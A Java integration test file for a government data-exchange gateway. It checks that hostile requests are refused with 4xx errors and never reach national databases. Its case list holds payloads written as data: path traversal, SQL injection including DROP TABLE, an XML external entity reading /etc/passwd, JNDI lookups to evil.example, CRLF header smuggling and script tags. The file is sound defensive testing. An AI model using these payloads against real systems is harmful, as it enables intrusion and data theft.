package vn.lgsp.hub.gateway;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import vn.lgsp.hub.support.HubIT;
import vn.lgsp.hub.support.RawHttp;

/**
 * Issue 5, abuse limits: hostile paths, headers and bodies (traversal, injection, control
 * characters, over-long values, duplicates, wrong media types, bodies that are not the JSON asked
 * for) are answered 4xx in problem+json with a contract code, and never reach a national database.
 * Requests go over a raw socket so that what {@code java.net.http} refuses to send can be sent.
 */
class HostileInputIT extends HubIT {

    /** The client codes of docs/api.md §1, and the hub's documented extensions for 405, 406 and 415. */
    static final Set<String> CLIENT_CODES = Set.of("client.invalid_request", "client.invalid_personal_id",
            "client.invalid_enterprise_code", "client.invalid_land_parcel", "client.unauthenticated",
            "client.forbidden", "client.not_found", "client.conflict", "client.rate_limited",
            "client.method_not_allowed", "client.not_acceptable", "client.unsupported_media_type");
    /**
     * Where the lookups' national databases are called (mock-endpoints/mappings). The criminal-records
     * service is called in the background, for requests of any test, so a certificate request is
     * checked in the database instead: a refused one is never stored, hence never submitted.
     */
    static final List<String> NATIONAL_DATABASES = List.of("/dancuquocgia/", "/apiCSDLDKDN/", "/vbdlis/");

    private static final String CITIZEN = "/api/v1/citizens/074085000123";
    /** Ids of this run: the test database outlives a run. */
    private static final String RUN = Long.toString(System.nanoTime() % 1_000_000_000L, 36).toUpperCase(java.util.Locale.ROOT);
    private static final String EVENT_DOSSIER = "HOSTILE-EVENTS";
    private static final String INVALID = "client.invalid_request";
    private static final String PERSONAL_ID = "client.invalid_personal_id";
    private static final String ENTERPRISE = "client.invalid_enterprise_code";
    private static final String LAND = "client.invalid_land_parcel";
    private static final String NOT_FOUND = "client.not_found";
    private static final String MEDIA_TYPE = "client.unsupported_media_type";
    private static final String DOSSIER = "{\"procedureCode\":\"1.001612\",\"agencyCode\":\"000.00.12.H12\","
            + "\"receivedAt\":\"2026-11-20T08:15:00+07:00\",\"channel\":\"ONLINE\",\"status\":\"RECEIVED\","
            + "\"applicant\":{\"idType\":\"PERSONAL_ID\",\"idNumber\":\"074085000123\"},"
            + "\"components\":[{\"code\":\"TP1\",\"name\":\"To khai\",\"digitized\":true,\"reused\":true}]}";
    private static final String CERTIFICATE = "{\"personalId\":\"074085000123\",\"certificateType\":1,"
            + "\"purpose\":\"Bo sung ho so\",\"applicant\":{\"fullName\":\"Nguyen Van An\",\"dateOfBirth\":\"1985-03-14\"}}";

    @BeforeEach
    void noRateLimitAndADossierForEvents() {
        rateLimits.limit("provincial-ap-system", 100_000);
        if (jdbc.queryForObject("SELECT count(*) FROM dossier WHERE dossier_id = ?", Integer.class, EVENT_DOSSIER) == 0) {
            assertThat(putDossier(EVENT_DOSSIER, DOSSIER, PROVINCIAL_KEY).status()).isEqualTo(202);
        }
        MOCKS.resetRequests();
    }

    static Stream<Case> cases() {
        List<Case> cases = new ArrayList<>();
        // --- lookups: path traversal and smuggled path parameters
        cases.add(lookupCase("citizen ..", "/api/v1/citizens/..", null));
        cases.add(lookupCase("citizen %2e%2e", "/api/v1/citizens/%2e%2e", null));
        cases.add(lookupCase("citizen %2e%2e to admin", "/api/v1/citizens/%2e%2e/%2e%2e/admin/routes", null));
        cases.add(lookupCase("citizen x/../id", "/api/v1/citizens/x/../074085000123", null));
        cases.add(lookupCase("citizen encoded slash", "/api/v1/citizens/..%2F..%2Fadmin%2Froutes", INVALID));
        cases.add(lookupCase("citizen encoded backslash", "/api/v1/citizens/..%5C..%5Cadmin", INVALID));
        cases.add(lookupCase("citizen raw backslash", "/api/v1/citizens/..\\..\\admin", INVALID));
        cases.add(lookupCase("citizen ;jsessionid", "/api/v1/citizens/074085000123;jsessionid=ABC", null));
        cases.add(lookupCase("citizen double-encoded ../", "/api/v1/citizens/%252e%252e%252fadmin", null));
        cases.add(lookupCase("citizen overlong UTF-8 dots", "/api/v1/citizens/%c0%ae%c0%ae", INVALID));
        cases.add(lookupCase("enterprise encoded slash", "/api/v1/enterprises/0100233488%2F..%2F..", INVALID));
        cases.add(lookupCase("land ..%2F in parcel", "/api/v1/land-parcels/25747/12/..%2F345", INVALID));
        cases.add(lookupCase("land ;param", "/api/v1/land-parcels/25747/12/345;x=1", null));
        cases.add(lookupCase("land extra segment", "/api/v1/land-parcels/25747/12/345/..", null));
        // --- lookups: injection strings in the identifier
        cases.add(lookupCase("citizen SQL", "/api/v1/citizens/" + enc("' OR '1'='1"), PERSONAL_ID));
        cases.add(lookupCase("citizen SQL after a valid id", "/api/v1/citizens/" + enc("074085000123' OR 1=1--"), PERSONAL_ID));
        cases.add(lookupCase("citizen SQL drop", "/api/v1/citizens/" + enc("1; DROP TABLE lookup_ledger;--"), null));
        cases.add(lookupCase("citizen XPath", "/api/v1/citizens/" + enc("' or //*[1] or '"), null));
        cases.add(lookupCase("citizen XML entity", "/api/v1/citizens/" + enc("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"), null));
        cases.add(lookupCase("citizen CDATA end", "/api/v1/citizens/" + enc("]]><x>074085000123</x>"), null));
        cases.add(lookupCase("citizen JSON operator", "/api/v1/citizens/" + enc("{\"$ne\":null}"), PERSONAL_ID));
        cases.add(lookupCase("citizen JSON break-out", "/api/v1/citizens/" + enc("\"},\"personalId\":\"074085000123"), PERSONAL_ID));
        cases.add(lookupCase("citizen Camel simple expression", "/api/v1/citizens/" + enc("${header.X-API-Key}"), PERSONAL_ID));
        cases.add(lookupCase("citizen JNDI lookup", "/api/v1/citizens/" + enc("${jndi:ldap://evil.example/a}"), null));
        cases.add(lookupCase("enterprise query injection", "/api/v1/enterprises/" + enc("0100233488&msdn=3700987651"), ENTERPRISE));
        cases.add(lookupCase("enterprise SQL", "/api/v1/enterprises/" + enc("0100233488' OR '1'='1"), ENTERPRISE));
        cases.add(lookupCase("land query injection", "/api/v1/land-parcels/25747/12/" + enc("345&soThuTuThua=1"), LAND));
        cases.add(lookupCase("land SQL in commune", "/api/v1/land-parcels/" + enc("1 OR 1=1") + "/12/345", LAND));
        cases.add(lookupCase("land sheet over int", "/api/v1/land-parcels/25747/99999999999/345", LAND));
        cases.add(lookupCase("land negative parcel", "/api/v1/land-parcels/25747/12/-345", LAND));
        // --- lookups: control characters and unicode in the path
        cases.add(lookupCase("citizen encoded CRLF", "/api/v1/citizens/0740%0d%0aX-Injected:%20x", null));
        cases.add(lookupCase("citizen encoded NUL", "/api/v1/citizens/074085000123%00", INVALID));
        cases.add(lookupCase("citizen encoded TAB", "/api/v1/citizens/07408500012%09", PERSONAL_ID));
        cases.add(lookupCase("citizen encoded DEL", "/api/v1/citizens/07408500012%7f", null));
        cases.add(lookupCase("citizen encoded ESC", "/api/v1/citizens/%1b%5b31m074085000123", null));
        cases.add(lookupCase("citizen right-to-left override", "/api/v1/citizens/" + enc("\u202e321000580470"), PERSONAL_ID));
        cases.add(lookupCase("citizen fullwidth digits", "/api/v1/citizens/" + enc("\uff10\uff17\uff14\uff10\uff18\uff15\uff10\uff10\uff10\uff11\uff12\uff13"), PERSONAL_ID));
        cases.add(lookupCase("citizen Arabic-Indic digits", "/api/v1/citizens/" + enc("\u0660\u0667\u0664\u0660\u0668\u0665\u0660\u0660\u0660\u0661\u0662\u0663"), PERSONAL_ID));
        cases.add(lookupCase("enterprise Cyrillic O for 0", "/api/v1/enterprises/" + enc("\u041e100233488"), ENTERPRISE));
        cases.add(lookupCase("enterprise fullwidth hyphen", "/api/v1/enterprises/" + enc("3701453620\uff0d001"), ENTERPRISE));
        cases.add(lookupCase("land superscript digits", "/api/v1/land-parcels/" + enc("2574\u2077") + "/12/345", LAND));
        // --- lookups: over-long path segments
        cases.add(lookupCase("citizen 1 KiB id", "/api/v1/citizens/" + "1".repeat(1024), PERSONAL_ID));
        cases.add(lookupCase("citizen 8 KiB id", "/api/v1/citizens/" + "1".repeat(8 * 1024), INVALID));
        cases.add(lookupCase("citizen 64 KiB id", "/api/v1/citizens/" + "1".repeat(64 * 1024), INVALID));
        cases.add(lookupCase("enterprise 8 KiB code", "/api/v1/enterprises/" + "0".repeat(8 * 1024), INVALID));
        // --- lookups: hostile context headers
        cases.add(lookupCase("X-Dossier-Id traversal", CITIZEN, INVALID).header("X-Dossier-Id", "../../etc/passwd"));
        cases.add(lookupCase("X-Dossier-Id SQL", CITIZEN, INVALID).header("X-Dossier-Id", "D-1' OR '1'='1"));
        cases.add(lookupCase("X-Dossier-Id 65 characters", CITIZEN, INVALID).header("X-Dossier-Id", "D".repeat(65)));
        cases.add(lookupCase("X-Dossier-Id 8 KiB", CITIZEN, INVALID).header("X-Dossier-Id", "D".repeat(8 * 1024)));
        cases.add(lookupCase("X-Dossier-Id 64 KiB", CITIZEN, INVALID).header("X-Dossier-Id", "D".repeat(64 * 1024)));
        cases.add(lookupCase("X-Dossier-Id empty", CITIZEN, INVALID).header("X-Dossier-Id", ""));
        cases.add(lookupCase("X-Dossier-Id NUL", CITIZEN, INVALID).header("X-Dossier-Id", "D-1\u0000x"));
        cases.add(lookupCase("X-Dossier-Id bare CR", CITIZEN, INVALID).header("X-Dossier-Id", "D-1\rX-Injected: x"));
        cases.add(lookupCase("X-Dossier-Id ESC", CITIZEN, INVALID).header("X-Dossier-Id", "D-1\u001b[2J"));
        cases.add(lookupCase("X-Dossier-Id Latin-1 byte", CITIZEN, INVALID).header("X-Dossier-Id", "D-\u00e9"));
        cases.add(lookupCase("X-Dossier-Id UTF-8 Vietnamese", CITIZEN, INVALID).header("X-Dossier-Id", utf8AsLatin1("\u0110\u01a0N-1")));
        cases.add(lookupCase("X-Dossier-Id obs-fold", CITIZEN, INVALID).header("X-Dossier-Id", "D-1\r\n D-2"));
        cases.add(lookupCase("X-Dossier-Id twice", CITIZEN, INVALID).add("X-Dossier-Id", "D-2"));
        cases.add(lookupCase("X-Procedure-Code twice", CITIZEN, INVALID).add("X-Procedure-Code", "2.000488"));
        cases.add(lookupCase("X-Procedure-Code fullwidth", CITIZEN, INVALID).header("X-Procedure-Code", utf8AsLatin1("\uff11.001612")));
        cases.add(lookupCase("X-Procedure-Code with LF injecting a header", CITIZEN, INVALID)
                .header("X-Procedure-Code", "1.0016120\nX-Officer-Id: OFF-1"));
        cases.add(lookupCase("X-Procedure-Code control character", CITIZEN, INVALID).header("X-Procedure-Code", "1.001612\u0001"));
        cases.add(lookupCase("X-Officer-Id script", CITIZEN, INVALID).header("X-Officer-Id", "<script>alert(1)</script>"));
        cases.add(lookupCase("X-Officer-Id 8 KiB", CITIZEN, INVALID).header("X-Officer-Id", "O".repeat(8 * 1024)));
        cases.add(lookupCase("X-Officer-Id twice", CITIZEN, INVALID).header("X-Officer-Id", "OFF-1").add("X-Officer-Id", "OFF-2"));
        cases.add(lookupCase("X-Agency-Code SQL", CITIZEN, INVALID).header("X-Agency-Code", "000.00.12.H12'; DROP TABLE dossier;--"));
        cases.add(lookupCase("X-Agency-Code twice", CITIZEN, INVALID).header("X-Agency-Code", "A-1").add("X-Agency-Code", "A-2"));
        cases.add(lookupCase("X-Correlation-Id JNDI", CITIZEN, INVALID).header("X-Correlation-Id", "${jndi:ldap://evil.example/a}"));
        cases.add(lookupCase("X-Correlation-Id 65 characters", CITIZEN, INVALID).header("X-Correlation-Id", "c".repeat(65)));
        cases.add(lookupCase("X-Correlation-Id bare CR", CITIZEN, INVALID).header("X-Correlation-Id", "c-1\rSet-Cookie: x=y"));
        cases.add(lookupCase("X-Correlation-Id twice", CITIZEN, INVALID).header("X-Correlation-Id", "c-1").add("X-Correlation-Id", "c-2"));
        cases.add(lookupCase("X-API-Key twice", CITIZEN, "client.unauthenticated").add("X-API-Key", ADMIN_KEY));
        cases.add(lookupCase("X-API-Key SQL", CITIZEN, "client.unauthenticated").header("X-API-Key", "' OR '1'='1"));
        cases.add(lookupCase("X-API-Key NUL", CITIZEN, INVALID).header("X-API-Key", PROVINCIAL_KEY + "\u0000"));
        cases.add(lookupCase("X-API-Key 8 KiB", CITIZEN, INVALID).header("X-API-Key", "k".repeat(8 * 1024)));
        cases.add(lookupCase("a LF smuggling a second X-API-Key", CITIZEN, "client.unauthenticated")
                .header("X-Officer-Id", "OFF-1\nX-API-Key: " + ADMIN_KEY));
        cases.add(lookupCase("header name with a space", CITIZEN, INVALID).raw("X Dossier: D-1"));
        cases.add(lookupCase("header without a colon", CITIZEN, INVALID).raw("X-Dossier-Id"));
        cases.add(lookupCase("headers totalling 64 KiB", CITIZEN, INVALID).raw(manyHeaders(64)));
        // --- lookups: request lines
        cases.add(lookupCase("unknown method", CITIZEN, "client.method_not_allowed").method("FOO"));
        cases.add(lookupCase("QUERY", CITIZEN, "client.method_not_allowed").method("QUERY"));
        cases.add(lookupCase("TRACE", CITIZEN, "client.method_not_allowed").method("TRACE"));
        cases.add(lookupCase("OPTIONS", CITIZEN, "client.method_not_allowed").method("OPTIONS"));
        // --- query strings: a parameter name or value the firewall refuses, or one Tomcat cannot decode
        for (String query : List.of("%01=1", "a%01b=1", "a=%01", "%7f=1", "%ef%bf%bf=1", "a=%zz", "%=1", "a=%e0%80")) {
            cases.add(lookupCase("citizen ?" + query, CITIZEN + "?" + query, INVALID));
            cases.add(lookupCase("generic lookup ?" + query, "/api/v1/lookups/citizens/074085000123?" + query, INVALID));
            cases.add(lookupCase("dossier ?" + query, "/api/v1/dossiers/" + EVENT_DOSSIER + "?" + query, INVALID));
            cases.add(putCase("dossier put ?" + query, "/api/v1/dossiers/HOSTILE-" + RUN + "-Q?" + query, DOSSIER, INVALID));
        }
        cases.add(lookupCase("DELETE on a lookup", CITIZEN, "client.method_not_allowed").method("DELETE"));
        cases.add(lookupCase("malformed HTTP version", CITIZEN, INVALID).version("HTTP/1.1x"));
        cases.add(lookupCase("space in the request target", "/api/v1/citizens/0740 85000123", INVALID));

        // --- dossiers: hostile ids
        cases.add(putCase("dossier id traversal", "/api/v1/dossiers/..%2F..%2Fadmin", DOSSIER, INVALID));
        cases.add(putCase("dossier id %2e%2e", "/api/v1/dossiers/%2e%2e", DOSSIER, null));
        cases.add(putCase("dossier id ;jsessionid", "/api/v1/dossiers/HOSTILE-D1;jsessionid=x", DOSSIER, null));
        cases.add(putCase("dossier id 65 characters", "/api/v1/dossiers/" + "D".repeat(65), DOSSIER, INVALID));
        cases.add(putCase("dossier id 8 KiB", "/api/v1/dossiers/" + "D".repeat(8 * 1024), DOSSIER, INVALID));
        cases.add(putCase("dossier id SQL", "/api/v1/dossiers/" + enc("D' OR '1'='1"), DOSSIER, INVALID));
        cases.add(putCase("dossier id NUL", "/api/v1/dossiers/HOSTILE-D2%00", DOSSIER, INVALID));
        cases.add(putCase("dossier id CRLF", "/api/v1/dossiers/HOSTILE%0d%0aD3", DOSSIER, null));
        cases.add(putCase("dossier id fullwidth", "/api/v1/dossiers/" + enc("HOSTILE-\uff14"), DOSSIER, INVALID));
        // --- dossiers: bodies
        String d = "/api/v1/dossiers/HOSTILE-" + RUN + "-B";
        cases.add(putCase("dossier body not JSON", d + "1", "<dossier/>", INVALID));
        cases.add(putCase("dossier body empty", d + "2", "", INVALID));
        cases.add(putCase("dossier body null", d + "3", "null", INVALID));
        cases.add(putCase("dossier body an array", d + "4", "[]", INVALID));
        cases.add(putCase("dossier body a number", d + "5", "12", INVALID));
        cases.add(putCase("dossier body truncated JSON", d + "6", DOSSIER.substring(0, 40), INVALID));
        cases.add(putCase("dossier body 10,000 nested arrays", d + "7", "[".repeat(10_000) + "]".repeat(10_000), INVALID));
        cases.add(putCase("dossier components 10,000 nested arrays", d + "8",
                "{\"components\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}", INVALID));
        cases.add(putCase("dossier body 10,000 nested objects", d + "9", "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000), INVALID));
        cases.add(putCase("dossier huge number", d + "10", "{\"receivedAt\":1" + "0".repeat(5000) + "}", INVALID));
        cases.add(putCase("dossier components an object", d + "12", DOSSIER.replace("\"components\":[", "\"components\":{\"x\":[").replace("]}", "]}}"), INVALID));
        cases.add(putCase("dossier applicant a string", d + "13", DOSSIER.replace("{\"idType\":\"PERSONAL_ID\",\"idNumber\":\"074085000123\"}", "\"074085000123\""), INVALID));
        cases.add(putCase("dossier digitized an object", d + "14", DOSSIER.replace("\"digitized\":true", "\"digitized\":{}"), INVALID));
        cases.add(putCase("dossier component code false", d + "40", DOSSIER.replace("\"code\":\"TP1\"", "\"code\":false"), INVALID));
        cases.add(putCase("dossier component code a number", d + "41", DOSSIER.replace("\"code\":\"TP1\"", "\"code\":1"), INVALID));
        cases.add(putCase("dossier digitized the string \"true\"", d + "42", DOSSIER.replace("\"digitized\":true", "\"digitized\":\"true\""), INVALID));
        cases.add(putCase("dossier reused 1", d + "43", DOSSIER.replace("\"reused\":true", "\"reused\":1"), INVALID));
        cases.add(putCase("dossier procedure code a number", d + "44", DOSSIER.replace("\"1.001612\"", "1.001612"), INVALID));
        cases.add(putCase("dossier channel a number", d + "45", DOSSIER.replace("\"ONLINE\"", "0"), INVALID));
        cases.add(putCase("dossier unknown channel", d + "15", DOSSIER.replace("ONLINE", "TELEPATHY"), INVALID));
        cases.add(putCase("dossier channel twice, the last unknown", d + "16", DOSSIER.replace("\"channel\":\"ONLINE\"", "\"channel\":\"ONLINE\",\"channel\":\"X\""), INVALID));
        cases.add(putCase("dossier receivedAt year 1000000000", d + "17", DOSSIER.replace("2026-11-20T08:15:00+07:00", "+999999999-12-31T23:59:59-18:00"), INVALID));
        cases.add(putCase("dossier receivedAt year -999999999", d + "18", DOSSIER.replace("2026-11-20T08:15:00+07:00", "-999999999-01-01T00:00:00+18:00"), INVALID));
        cases.add(putCase("dossier receivedAt year 10000", d + "19", DOSSIER.replace("2026-11-20T08:15:00+07:00", "+10000-01-01T00:00:00Z"), INVALID));
        cases.add(putCase("dossier receivedAt without offset", d + "20", DOSSIER.replace("2026-11-20T08:15:00+07:00", "2026-11-20T08:15:00"), INVALID));
        cases.add(putCase("dossier applicant id SQL", d + "21", DOSSIER.replace("\"074085000123\"", "\"074085000123' OR '1'='1\""), PERSONAL_ID));
        cases.add(putCase("dossier 201 components", d + "22", DOSSIER.replace("[{\"code\":\"TP1\",\"name\":\"To khai\",\"digitized\":true,\"reused\":true}]",
                "[" + String.join(",", java.util.Collections.nCopies(201, "{\"code\":\"TP\"}")) + "]"), INVALID));
        cases.add(putCase("dossier 60,000 null components", d + "23", DOSSIER.replace("[{\"code\":\"TP1\",\"name\":\"To khai\",\"digitized\":true,\"reused\":true}]",
                "[" + String.join(",", java.util.Collections.nCopies(60_000, "null")) + "]"), INVALID));
        cases.add(putCase("dossier body invalid UTF-8", d + "24", null, INVALID).body(invalidUtf8()));
        cases.add(putCase("dossier body over 256 KiB", d + "25", DOSSIER.replace("To khai", "x".repeat(300 * 1024)), INVALID));
        cases.add(putCase("dossier chunked body over 256 KiB", d + "26", null, INVALID)
                .chunked(DOSSIER.replace("To khai", "x".repeat(300 * 1024))));
        cases.add(putCase("dossier body shorter than its Content-Length", d + "27", null, INVALID)
                .header("Content-Length", "500").body(DOSSIER.substring(0, 100).getBytes(StandardCharsets.UTF_8)).halfClose().containerOnly());
        cases.add(putCase("dossier declared 300 KiB, sends less", d + "28", null, INVALID)
                .header("Content-Length", String.valueOf(300 * 1024)).body("{}".getBytes(StandardCharsets.UTF_8)));
        cases.add(putCase("dossier text/plain", d + "29", DOSSIER, MEDIA_TYPE).header("Content-Type", "text/plain"));
        cases.add(putCase("dossier without Content-Type", d + "30", DOSSIER, MEDIA_TYPE).remove("Content-Type"));
        cases.add(putCase("dossier XML with an external entity", d + "31",
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", MEDIA_TYPE)
                .header("Content-Type", "application/xml"));
        cases.add(putCase("dossier form-urlencoded", d + "32", "procedureCode=1.001612&channel=ONLINE", MEDIA_TYPE)
                .header("Content-Type", "application/x-www-form-urlencoded"));
        cases.add(putCase("dossier multipart", d + "33", "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--b--\r\n", MEDIA_TYPE)
                .header("Content-Type", "multipart/form-data; boundary=b"));
        cases.add(putCase("dossier unknown charset", d + "34", DOSSIER, MEDIA_TYPE).header("Content-Type", "application/json; charset=x-bogus"));
        cases.add(putCase("dossier Content-Length and chunked", d + "36", null, INVALID)
                .header("Transfer-Encoding", "chunked").header("Content-Length", "3").body("0\r\n\r\n".getBytes(StandardCharsets.UTF_8)));
        // --- dossier events
        String e = "/api/v1/dossiers/" + EVENT_DOSSIER + "/events";
        cases.add(postCase("event body null", e, "null", INVALID));
        cases.add(postCase("event body empty", e, "", INVALID));
        cases.add(postCase("event body an array", e, "[{\"status\":\"PROCESSING\"}]", INVALID));
        cases.add(postCase("event status RECEIVED", e, "{\"status\":\"RECEIVED\",\"at\":\"2026-11-21T08:00:00+07:00\"}", INVALID));
        cases.add(postCase("event status unknown", e, "{\"status\":\"DONE'--\",\"at\":\"2026-11-21T08:00:00+07:00\"}", INVALID));
        cases.add(postCase("event status an array", e, "{\"status\":[\"PROCESSING\"],\"at\":\"2026-11-21T08:00:00+07:00\"}", INVALID));
        cases.add(postCase("event at an object", e, "{\"status\":\"PROCESSING\",\"at\":{}}", INVALID));
        cases.add(postCase("event at year 1000000000", e, "{\"status\":\"PROCESSING\",\"at\":\"+999999999-12-31T23:59:59Z\"}", INVALID));
        cases.add(postCase("event at year 10000", e, "{\"status\":\"PROCESSING\",\"at\":\"+10000-01-01T00:00:00Z\"}", INVALID));
        cases.add(postCase("event 10,000 nested arrays", e, "{\"status\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}", INVALID));
        cases.add(postCase("event invalid UTF-8", e, null, INVALID).body(invalidUtf8()));
        cases.add(postCase("event text/plain", e, "{\"status\":\"PROCESSING\",\"at\":\"2026-11-21T08:00:00+07:00\"}", MEDIA_TYPE)
                .header("Content-Type", "text/plain"));
        cases.add(postCase("event on a traversal id", "/api/v1/dossiers/..%2F" + EVENT_DOSSIER + "/events",
                "{\"status\":\"PROCESSING\",\"at\":\"2026-11-21T08:00:00+07:00\"}", INVALID));

        // --- criminal-record requests
        String c = "/api/v1/criminal-record-requests";
        cases.add(postCase("certificate body null", c, "null", INVALID).certificate());
        cases.add(postCase("certificate body not JSON", c, "personalId=074085000123", INVALID).certificate());
        cases.add(postCase("certificate personal ID SQL", c, CERTIFICATE.replace("\"074085000123\"", "\"074085000123' OR '1'='1\""), PERSONAL_ID).certificate());
        cases.add(postCase("certificate personal ID fullwidth", c, CERTIFICATE.replace("074085000123", "\uff10\uff17\uff14\uff10\uff18\uff15\uff10\uff10\uff10\uff11\uff12\uff13"), PERSONAL_ID).certificate());
        cases.add(postCase("certificate personal ID a number", c, CERTIFICATE.replace("\"074085000123\"", "74085000123"), INVALID).certificate());
        // --- JSON types are strict: no coercion between strings, numbers and booleans
        cases.add(postCase("certificate type the string \"1\"", c, CERTIFICATE.replace("\"certificateType\":1", "\"certificateType\":\"1\""), INVALID).certificate());
        cases.add(postCase("certificate type 1.0", c, CERTIFICATE.replace("\"certificateType\":1", "\"certificateType\":1.0"), INVALID).certificate());
        cases.add(postCase("certificate type true", c, CERTIFICATE.replace("\"certificateType\":1", "\"certificateType\":true"), INVALID).certificate());
        cases.add(postCase("certificate full name false", c, CERTIFICATE.replace("\"Nguyen Van An\"", "false"), INVALID).certificate());
        cases.add(postCase("certificate full name a number", c, CERTIFICATE.replace("\"Nguyen Van An\"", "12"), INVALID).certificate());
        cases.add(postCase("certificate purpose a number", c, CERTIFICATE.replace("\"Bo sung ho so\"", "1.5"), INVALID).certificate());
        cases.add(postCase("certificate personal ID an array", c, CERTIFICATE.replace("\"074085000123\"", "[\"074085000123\"]"), INVALID).certificate());
        cases.add(postCase("certificate type 3", c, CERTIFICATE.replace("\"certificateType\":1", "\"certificateType\":3"), INVALID).certificate());
        cases.add(postCase("certificate type over int", c, CERTIFICATE.replace("\"certificateType\":1", "\"certificateType\":99999999999999999999"), INVALID).certificate());
        cases.add(postCase("certificate type a string", c, CERTIFICATE.replace("\"certificateType\":1", "\"certificateType\":\"one\""), INVALID).certificate());
        cases.add(postCase("certificate type an object", c, CERTIFICATE.replace("\"certificateType\":1", "\"certificateType\":{\"$gt\":0}"), INVALID).certificate());
        cases.add(postCase("certificate purpose 501 characters", c, CERTIFICATE.replace("Bo sung ho so", "p".repeat(501)), INVALID).certificate());
        cases.add(postCase("certificate purpose blank", c, CERTIFICATE.replace("Bo sung ho so", " \\t\\n "), INVALID).certificate());
        cases.add(postCase("certificate full name 201 characters", c, CERTIFICATE.replace("Nguyen Van An", "n".repeat(201)), INVALID).certificate());
        cases.add(postCase("certificate date of birth 30 February", c, CERTIFICATE.replace("1985-03-14", "1985-02-30"), INVALID).certificate());
        cases.add(postCase("certificate date of birth in 2999", c, CERTIFICATE.replace("1985-03-14", "2999-01-01"), INVALID).certificate());
        cases.add(postCase("certificate date of birth injection", c, CERTIFICATE.replace("1985-03-14", "1985-03-14' OR '1'='1"), INVALID).certificate());
        cases.add(postCase("certificate applicant missing", c, CERTIFICATE.replace(",\"applicant\":{\"fullName\":\"Nguyen Van An\",\"dateOfBirth\":\"1985-03-14\"}", ""), INVALID).certificate());
        cases.add(postCase("certificate 10,000 nested arrays", c, "{\"applicant\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}", INVALID).certificate());
        cases.add(postCase("certificate huge number", c, CERTIFICATE.replace("\"certificateType\":1", "\"certificateType\":1" + "0".repeat(5000)), INVALID).certificate());
        cases.add(postCase("certificate invalid UTF-8", c, null, INVALID).body(invalidUtf8()).certificate());
        cases.add(postCase("certificate body over 256 KiB", c, CERTIFICATE.replace("Bo sung ho so", "x".repeat(300 * 1024)), INVALID).certificate());
        cases.add(postCase("certificate text/plain", c, CERTIFICATE, MEDIA_TYPE).header("Content-Type", "text/plain").certificate());
        cases.add(postCase("certificate X-Dossier-Id traversal", c, CERTIFICATE, INVALID).certificate().header("X-Dossier-Id", "../../etc/passwd"));
        cases.add(postCase("certificate X-Dossier-Id NUL", c, CERTIFICATE, INVALID).certificate().header("X-Dossier-Id", "D\u0000"));
        cases.add(postCase("certificate X-Procedure-Code SQL", c, CERTIFICATE, INVALID).certificate().header("X-Procedure-Code", "1.001612' OR 1=1"));
        cases.add(postCase("certificate X-Dossier-Id twice", c, CERTIFICATE, INVALID).certificate().add("X-Dossier-Id", "D-2"));
        cases.add(postCase("certificate X-API-Key twice", c, CERTIFICATE, "client.unauthenticated").certificate().add("X-API-Key", ADMIN_KEY));
        cases.add(lookupCase("certificate request id traversal", c + "/..%2F..%2Fadmin", INVALID));
        cases.add(lookupCase("certificate request id SQL", c + "/" + enc("' OR '1'='1"), NOT_FOUND));
        return cases.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void isRefusedWithAProblemAndNoUpstreamCall(Case hostile) {
        int events = jdbc.queryForObject("SELECT count(*) FROM dossier_event WHERE dossier_id = ?", Integer.class,
                EVENT_DOSSIER);

        RawHttp.Answer answer = RawHttp.send(port, hostile.bytes(), hostile.halfClose);

        String name = hostile.name;
        assertThat(answer.status()).as("%s: status (body %s)", name, answer.body()).isBetween(400, 499);
        assertThat(nationalDatabaseCalls()).as("%s: calls to a national database", name).isEmpty();
        assertThat(jdbc.queryForObject("SELECT count(*) FROM criminal_record_request WHERE dossier_id = ?",
                Integer.class, hostile.dossierId)).as("%s: criminal-record requests stored", name).isZero();
        assertThat(jdbc.queryForObject("SELECT count(*) FROM dossier WHERE dossier_id LIKE ?", Integer.class,
                "HOSTILE-" + RUN + "%")).as("%s: dossiers stored", name).isZero();
        assertThat(jdbc.queryForObject("SELECT count(*) FROM dossier_event WHERE dossier_id = ?", Integer.class,
                EVENT_DOSSIER)).as("%s: dossier events stored", name).isEqualTo(events);
        if (hostile.containerOnly) {
            return;
        }
        conforms(hostile.method, hostile.target, answer);
        assertThat(answer.header("Content-Type")).as("%s: Content-Type", name).startsWith("application/problem+json");
        JsonNode problem = json(name, answer.body());
        String code = problem.path("code").asText();
        assertThat(code).as("%s: code", name).isIn(CLIENT_CODES);
        if (hostile.code != null) {
            assertThat(code).as("%s: code", name).isEqualTo(hostile.code);
        }
        assertThat(answer.header("X-Hub-Error")).as("%s: X-Hub-Error", name).isEqualTo(code);
        if ("client.method_not_allowed".equals(code)) {
            assertThat(answer.header("Allow")).as("%s: Allow", name).isNotBlank().doesNotContain(hostile.method);
        }
        assertThat(problem.path("status").asInt()).as("%s: status member", name).isEqualTo(answer.status());
        assertThat(problem.path("type").asText()).as("%s: type", name).isEqualTo("urn:lgsp-hub:problem:" + code);
        assertThat(problem.path("correlationId").asText()).as("%s: correlationId", name).isNotBlank();
    }

    static List<String> nationalDatabaseCalls() {
        return MOCKS.getAllServeEvents().stream().map(event -> event.getRequest().getUrl())
                .filter(url -> NATIONAL_DATABASES.stream().anyMatch(url::startsWith)).toList();
    }

    private static JsonNode json(String name, String body) {
        try {
            return JSON.readTree(body);
        } catch (Exception e) {
            throw new AssertionError(name + ": the problem is not JSON: " + body, e);
        }
    }

    private static Case lookupCase(String name, String target, String code) {
        return new Case(name, "GET", target, code).lookupContext();
    }

    private static Case putCase(String name, String target, String body, String code) {
        return new Case(name, "PUT", target, code).json(body);
    }

    private static Case postCase(String name, String target, String body, String code) {
